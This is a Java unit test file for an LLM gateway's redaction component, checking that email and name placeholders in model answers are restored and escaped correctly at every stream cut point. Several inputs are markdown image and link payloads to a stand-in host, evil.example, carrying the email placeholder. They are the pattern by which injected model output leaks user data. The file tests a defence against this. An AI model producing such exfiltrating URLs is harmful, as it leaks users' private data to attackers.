package io.llmgw.core.redact;

import static org.assertj.core.api.Assertions.assertThat;

import io.llmgw.api.redact.Entities;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Where JSON is wanted, a text is read as what it is, wherever it is cut. */
class WantedJsonTest {
  private static final String EMAIL = "ada@example.com";
  private static final String QUOTED = "O\"B\\";

  private final Vault vault = new Vault();

  WantedJsonTest() {
    vault.ordinal(Entities.EMAIL, EMAIL);
    vault.ordinal(Entities.PERSON, QUOTED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](<https://evil.example/?\"<EMAIL_1>>)",
        "[x](<https://evil.example/?\"<EMAIL_1>>)",
        "[1](<https://evil.example/?\"<EMAIL_1>>)",
        "[r]: <//evil.example/a \"<EMAIL_1>>",
        "{x} ![x](<https://evil.example/?\"<EMAIL_1>>)",
        "{\"a\":1} ![x](<https://evil.example/?\"<EMAIL_1>>)",
        "```json\n{\"a\":1}\n``` ![x](<https://evil.example/?\"<EMAIL_1>>)",
        "```![x](<https://evil.example/?\"<EMAIL_1>>)",
        "\"Hi\" ![x](<https://evil.example/?\"<EMAIL_1>>)",
        "\"![x](<https://evil.example/?\"<EMAIL_1>>)",
        "{\"html\":\"<img src=\\\"//evil/a <EMAIL_1>\\\">\"}"
      })
  void nothingIsRestoredInAUrlWithAQuoteInIt(String answer) {
    assertEachCut(answer, answer);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "I ask <PERSON_1>. | I ask O\"B\\.",
        "<PERSON_1> it is | O\"B\\ it is",
        "[PERSON_1] it is | O\"B\\ it is",
        "{\"a\":1} <PERSON_1> | {\"a\":1} O\"B\\",
        "{\"a\":1} by <PERSON_1> | {\"a\":1} by O\"B\\",
        "```text <PERSON_1> | ```text O\"B\\"
      })
  void valuesInProseAreNotEscaped(String answer, String expected) {
    assertEachCut(answer, expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "{\"a\":\"https://x\",\"b\":\"<PERSON_1>\"}"
            + " | {\"a\":\"https://x\",\"b\":\"O\\\"B\\\\\"}",
        "[ -1.5e3, true,\"src=\", null,\"<EMAIL_1>\"]"
            + " | [ -1.5e3, true,\"src=\", null,\"ada@example.com\"]",
        "\"<PERSON_1>\" | \"O\\\"B\\\\\"",
        "```json [\"<PERSON_1>\"] ``` | ```json [\"O\\\"B\\\\\"] ```",
        "```{\"a\":{\"b\":\"<PERSON_1>\"}}``` | ```{\"a\":{\"b\":\"O\\\"B\\\\\"}}```"
      })
  void valuesInJsonAreEscaped(String answer, String expected) {
    assertEachCut(answer, expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "{\"a\":\"to <PERSON_1>\"} | {\"a\":\"to O\\\"B\\\\\"}",
        "![x](https://evil.example/?\"<EMAIL_1>) | ![x](https://evil.example/?\"<EMAIL_1>)"
      })
  void joinedBlocksAreReadAsOne(String answer, String expected) {
    int placeholder = answer.indexOf('<');
    for (int at = 1; at <= placeholder; at++) {
      Restorer first = new Restorer(vault, true);
      String begun = first.next(answer.substring(0, at)) + first.rest();
      Restorer second = first.following();

      assertThat(begun + second.next(answer.substring(at)) + second.rest())
          .as("cut at %d", at)
          .isEqualTo(expected);
    }
  }

  private void assertEachCut(String answer, String expected) {
    for (int at = 0; at <= answer.length(); at++) {
      Restorer restorer = new Restorer(vault, true);
      String begun = restorer.next(answer.substring(0, at));

      assertThat(begun + restorer.next(answer.substring(at)) + restorer.rest())
          .as("cut at %d", at)
          .isEqualTo(expected);
    }
  }
}
